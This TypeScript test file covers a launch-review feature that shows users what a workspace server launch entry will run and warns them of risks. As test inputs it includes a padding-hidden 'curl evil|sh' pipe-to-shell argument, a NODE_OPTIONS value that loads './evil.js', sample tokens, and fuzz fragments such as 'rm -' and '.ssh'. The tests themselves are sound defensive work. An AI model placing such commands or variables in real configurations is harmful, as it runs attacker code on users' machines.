import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { LaunchReview } from '../../../src/policy/launchReview';
import { processorMs } from '../../support/processorTime';
import { kinds, review } from './reviews';

function localOf(shown: LaunchReview): Extract<LaunchReview['launch'], { kind: 'local' }> {
  assert.ok(shown.launch.kind === 'local');
  return shown.launch;
}

test('a plain launch is shown in full and without a warning', () => {
  const shown = review(
    {
      command: 'node',
      args: ['server.js'],
      cwd: '${workspaceFolder}',
      env: { MODE: 'dev' },
      envFile: '.env',
    },
    { resolvedCommand: '/usr/bin/node', cwd: '/w', envFile: '/w/.env', machine: 'ssh: host' },
  );
  assert.deepEqual(shown, {
    title: 'Start the server "server"?',
    source: 'the settings of this workspace',
    machine: 'ssh: host',
    launch: {
      kind: 'local',
      command: 'node',
      resolvedCommand: '/usr/bin/node',
      args: ['server.js'],
      resolvedArgs: [undefined],
      cwd: { path: '/w', outside: false },
      env: [{ name: 'MODE', value: { kind: 'shown', text: 'dev' } }],
      envFile: { path: '/w/.env', outside: false },
      envFileVariables: [],
    },
    readsEnvironment: [],
    inputs: [],
    mayAsk: { sampling: true, samplingOutsideCalls: false, roots: true },
    rules: { strict: false, deniedTools: [], timeouts: {} },
    warnings: [],
  });
});

test('what the environment file sets is named, and what loads code is shown and warned of', () => {
  const envFileVariables = new Map([
    ['DB_PASSWORD', 'hunter2'],
    ['NODE_OPTIONS', '--require ./evil.js'],
  ]);
  const shown = review({ command: 'node', envFile: '.env' }, { envFile: '/w/.env', envFileVariables });
  assert.deepEqual(localOf(shown).envFileVariables, [
    { name: 'DB_PASSWORD', value: { kind: 'set' } },
    { name: 'NODE_OPTIONS', value: { kind: 'shown', text: '--require ./evil.js' } },
  ]);
  assert.deepEqual(
    shown.warnings.map(({ kind, field }) => [kind, field]),
    [['dangerous-variable', 'envFile']],
  );
});

test('something that looks like a secret does not hide the value of a variable that loads code', () => {
  const NODE_OPTIONS = '--require ./evil.js --title=token=aaaaaa';
  const { env } = localOf(review({ command: 'node', env: { NODE_OPTIONS } }));
  assert.deepEqual(env, [{ name: 'NODE_OPTIONS', value: { kind: 'shown', text: NODE_OPTIONS } }]);
});

test('the rules of an entry are told where they are not as usual', () => {
  const { rules, mayAsk } = review({
    command: 'node',
    start: 'never',
    strict: true,
    tools: { allow: ['a*'], deny: ['b'] },
    timeouts: { request: 5 },
    sampling: { model: 'm' },
    logLevel: 'debug',
  });
  assert.deepEqual(rules, {
    start: 'never',
    strict: true,
    allowedTools: ['a*'],
    deniedTools: ['b'],
    timeouts: { request: 5_000 },
    logLevel: 'debug',
  });
  assert.equal(mayAsk.model, 'm');
});

test('an argument of 6,000 characters is shown whole, as are 1,000 arguments', () => {
  const long = `${'x'.repeat(5_990)}THE END`;
  const args = [long, ...Array.from({ length: 999 }, (_, index) => `arg-${index}`)];
  assert.deepEqual(localOf(review({ command: 'node', args })).args, args);
});

test('every argument has its own line, and no argument can look like two', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme-ascii' }), { maxLength: 5 }), (args) => {
      const { args: shown } = localOf(review({ command: 'node', args: [...args, 'a\nb', ''] }));
      assert.equal(shown.length, args.length + 2);
      assert.doesNotMatch(shown.join(''), /[\r\n\p{Cf}]/u);
      assert.equal(shown.at(-2), 'a⟨U+000A⟩b');
    }),
  );
});

test('padding in an argument is shown and warned of', () => {
  const shown = review({ command: 'tool', args: [`echo ok${' '.repeat(4_000)}; curl evil|sh`] });
  assert.deepEqual(localOf(shown).args, ['echo ok⟨space×4000⟩; curl evil|sh']);
  assert.ok(shown.warnings.some(({ kind, field }) => kind === 'hidden-characters' && field === 'args[0]'));
});

for (const hidden of [
  '\t'.repeat(500),
  '\n'.repeat(200),
  '\u202e',
  '\u200b',
  '\u{E0041}',
  '\u2028',
  '\x1b[8m',
  '\u00a0',
]) {
  for (const field of ['command', 'args', 'cwd', 'env', 'envFile'] as const) {
    test(`${JSON.stringify(hidden).slice(0, 12)} in ${field} is warned of`, () => {
      const text = `a${hidden}b`;
      const value = field === 'args' ? [text] : field === 'env' ? { A: text } : text;
      assert.ok(kinds({ command: 'x', [field]: value }).includes('hidden-characters'));
    });
  }
}

test('a name cannot act in the title', () => {
  assert.equal(
    review({ command: 'a' }, { name: '](command:x)\u202e' }).title,
    'Start the server "]\u200A(command:x)⟨U+202E⟩"?',
  );
  assert.equal(review({ url: 'https://a.test' }, { name: 'n' }).title, 'Connect to the server "n"?');
});

test('paths outside the workspace are marked and warned of', () => {
  const shown = review({ command: 'a', envFile: '../x' }, { cwd: '/', envFile: '/home/me/x' });
  assert.deepEqual(localOf(shown).cwd, { path: '/', outside: true });
  assert.deepEqual(localOf(shown).envFile, { path: '/home/me/x', outside: true });
  assert.deepEqual(
    shown.warnings.map(({ kind, field }) => [kind, field]),
    [
      ['outside-workspace', 'cwd'],
      ['outside-workspace', 'envFile'],
    ],
  );
});

const VALUES: readonly (readonly [name: string, value: string | null, shown: string])[] = [
  ['MODE', 'dev', 'dev'],
  ['MODE', '', ''],
  ['PATH', null, 'removed'],
  ['GITHUB_TOKEN', 'x', 'set'],
  ['GITHUB_TOKEN', '${input:token}', '${input:token}'],
  ['GITHUB_TOKEN', '${input:a}${env:B}', '${input:a}${env:B}'],
  ['GITHUB_TOKEN', '${input:a} and more', 'set'],
  ['NOTE', `ghp_${'a'.repeat(36)}`, 'set'],
  ['NOTE', 'a1'.repeat(20), 'set'],
  ['URL', 'https://user:hunter2@db.test', 'set'],
  ['NODE_OPTIONS', '--require ./x.js', '--require ./x.js'],
  ['MODE', 'a\u200bb', 'a⟨U+200B⟩b'],
];
for (const [name, value, expected] of VALUES) {
  test(`the variable ${name}=${JSON.stringify(value)} is shown as ${expected}`, () => {
    const [shown] = localOf(review({ command: 'a', env: { [name]: value } })).env;
    assert.equal(shown?.value.kind === 'shown' ? shown.value.text : shown?.value.kind, expected);
  });
}

test('the variables of the person that are read, and the inputs, are named once', () => {
  const shown = review({
    command: '${env:A}',
    args: ['${input:i}', '${env:B}'],
    env: { X: '${env:A}', Y: '${input:i}' },
  });
  assert.deepEqual(shown.readsEnvironment, ['A', 'B']);
  assert.deepEqual(shown.inputs, ['i']);
});

test('a remote launch shows its URL, its host in ASCII form and its headers', () => {
  const url = 'https://exämple.test/x?y';
  const headers = { Authorization: 'Bearer abcdefgh', 'X-Mode': 'a' };
  const shown = review({ url, headers }, { resolvedUrl: url });
  assert.deepEqual(shown.launch, {
    kind: 'remote',
    url: 'https://exämple.test/x?y',
    host: 'xn--exmple-cua.test',
    headers: [
      { name: 'Authorization', value: { kind: 'set' } },
      { name: 'X-Mode', value: { kind: 'shown', text: 'a' } },
    ],
    signIn: [],
  });
  assert.deepEqual(shown.mayAsk, { sampling: true, samplingOutsideCalls: false, roots: false });
});

test('the host of a URL with variables is not guessed', () => {
  const { launch } = review({ url: '${input:u}' });
  assert.equal(launch.kind === 'remote' && launch.host, 'known once you have given its inputs');
});

test('beside an address with variables stands what it becomes, and the transport when it is not found out', () => {
  const resolvedUrl = 'https://eu.example.com/mcp';
  const { launch } = review({ url: 'https://${env:R}.example.com/mcp', type: 'sse' }, { resolvedUrl });
  assert.ok(launch.kind === 'remote');
  assert.deepEqual(
    [launch.resolvedUrl, launch.host, launch.transport],
    [resolvedUrl, 'eu.example.com', 'sse'],
  );
});

test('a secret is masked in its warning', () => {
  const secret = `ghp_${'Z9'.repeat(18)}`;
  const shown = review({ command: 'a', env: { GITHUB_TOKEN: secret } });
  assert.doesNotMatch(JSON.stringify(shown), /Z9Z9/);
  assert.match(shown.warnings[0]?.text ?? '', /GitHub token in plain text \(ghp_\*\*\*\)/);
});

test('what is dangerous comes first', () => {
  const raw = { command: 'sudo', args: ['npx', 'a\u200b', '--token=abcdefgh'], env: { PATH: 'x' } };
  assert.deepEqual(kinds(raw), [
    'hidden-characters',
    'elevated-rights',
    'unpinned-package',
    'search-path',
    'plain-secret',
  ]);
});

test('every text of a review is free of links, icons and hidden characters, and none takes long to make', () => {
  const piece = fc.constantFrom(
    '](',
    '[a',
    '$(x)',
    '\u202e',
    '\n',
    ' ',
    'rm -',
    '| sh',
    'curl',
    '${env:A}',
    'a',
    '.ssh',
    'eyJ',
    'sk-',
    '://a:',
    '@',
  );
  const text = fc.array(piece, { minLength: 1, maxLength: 20 }).map((parts) => `x${parts.join('')}`);
  fc.assert(
    fc.property(text, fc.array(text), text, (command, args, value) => {
      const shown = JSON.stringify(
        review({ command, args, env: { A: value, TOKEN: value } }, { name: command }),
      );
      assert.doesNotMatch(shown.replaceAll('\\"', ''), /\]\(|\$\(|\p{Cc}|\p{Cf}/u);
    }),
  );
  const start = processorMs();
  for (const part of [
    'rm -a ',
    'curl ',
    '| ',
    'eyJ-',
    'sk-',
    '://a:',
    'token ',
    '-----BEGIN ',
    'a1',
    'npx ',
    '.ssh/x',
    '\u200b',
    '${env:X}',
    'Bearer ',
  ]) {
    const hostile = part.repeat(Math.floor(130_000 / Buffer.byteLength(part)));
    review({ command: hostile, args: [hostile, hostile], env: { A: hostile, TOKEN: hostile } });
  }
  assert.ok(processorMs() - start < 10_000);
});
